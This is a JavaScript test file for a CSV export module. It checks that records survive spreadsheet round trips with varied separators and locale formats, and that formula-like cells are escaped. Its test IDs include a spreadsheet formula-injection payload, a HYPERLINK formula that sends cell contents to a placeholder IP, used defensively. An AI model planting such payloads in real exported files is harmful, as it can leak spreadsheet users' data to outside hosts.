// A case as a table, through what spreadsheets and data programs do to it.
import assert from "node:assert/strict";
import { test } from "node:test";
import { parse } from "csv-parse/sync";
import { readCase, writeCase } from "../../target/modules/api/glasscall.js";

const IDS = [
  "0.9", "0.30", "1/8", "007", "82", "=1+1", '=HYPERLINK("http://192.0.2.1/"&A1,"see")', "+2", "-0.6", "@x", "1.2 IR", "TRUE", "3:4", "1e5",
  "2026-05-01", "0,9", "5 May", "'quoted", "'=1", "pola, “old” one", "a;b", "10 %",
];
const content = {
  pieces: IDS.map((id, at) => ({ id, kind: "nd", density: Number((0.3 + at / 10).toFixed(1)), count: 1, size: at % 2 ? "4x5.65" : "82", split: false })),
};
const kept = readCase({ text: writeCase({ case: content, as: "json" }).text }).case;
const table = writeCase({ case: kept, as: "csv" }).text;
const backAs = (text) => readCase({ text }).case;

/**
 * What a spreadsheet does to a table without being asked, as seen in LibreOffice
 * 7.4: quotes go where they need not stand, numbers and yes and no are written
 * anew. A cell it would take for anything else must be marked.
 */
function savedAgain(text, separator, comma) {
  const rows = parse(text).map((row) => row.map((cell) => {
    if (/^(true|false)$/i.test(cell)) return cell.toUpperCase();
    assert.doesNotMatch(cell, /^\s*[=+\-@]/, "would be worked out");
    if (/^\d+[/:-]\d+|^\d+ ?%$|^\d+ [A-Z]/.test(cell) && cell !== "1.2 IR") assert.fail(`${cell} would be a day, a time or a share`);
    if (cell === "" || !Number.isFinite(Number(cell))) return cell;
    return comma ? String(Number(cell)).replace(".", ",") : String(Number(cell));
  }));
  const quoted = (cell) => (cell.includes(separator) || /["\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
  return rows.map((row) => `${row.map(quoted).join(separator)}\n`).join("");
}

test("a case comes back from spreadsheets of several countries as it was", () => {
  assert.deepEqual(backAs(table), kept);
  assert.deepEqual(backAs(`\ufeff${table}`), kept, "with a mark of the byte order");
  for (const [separator, comma] of [[",", false], [";", false], [";", true], ["\t", false], ["\t", true]]) {
    assert.deepEqual(backAs(savedAgain(table, separator, comma)), kept, `${JSON.stringify(separator)} ${comma}`);
  }
  assert.deepEqual(backAs(table.replaceAll("false", "False")), kept, "as Python writes it");
  assert.deepEqual(backAs(table.replaceAll("false", "FALSCH")), kept, "as German programs write it");
  assert.deepEqual(backAs(`${table}${",".repeat(table.split("\r\n")[0].split(",").length - 1)}\r\n`), kept, "with an empty row");
});

test("a name is kept as it is typed, marked or not", () => {
  const rows = parse(table).slice(1);
  const cell = (id) => rows.find((row) => row[1].replace(/^'/, "") === id)[1];
  assert.equal(cell("0.9"), "0.9");
  assert.equal(cell("1/8"), "'1/8");
  assert.equal(cell("=1+1"), "'=1+1");
});
